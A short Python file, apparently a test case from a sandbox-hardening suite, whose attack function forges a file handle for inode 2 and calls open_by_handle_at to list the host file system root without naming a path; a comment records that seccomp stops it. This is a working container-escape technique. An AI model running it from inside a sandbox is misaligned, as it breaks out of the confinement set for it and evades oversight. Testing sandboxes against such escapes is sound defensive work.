"""Opens the file system's root by a handle made up from its inode number, without naming any path."""
# stopped by: seccomp
import ctypes
import os
import struct


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0), 16)
    descriptor = libc.open_by_handle_at(0, handle, os.O_RDONLY)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"done: {os.listdir(descriptor)}"
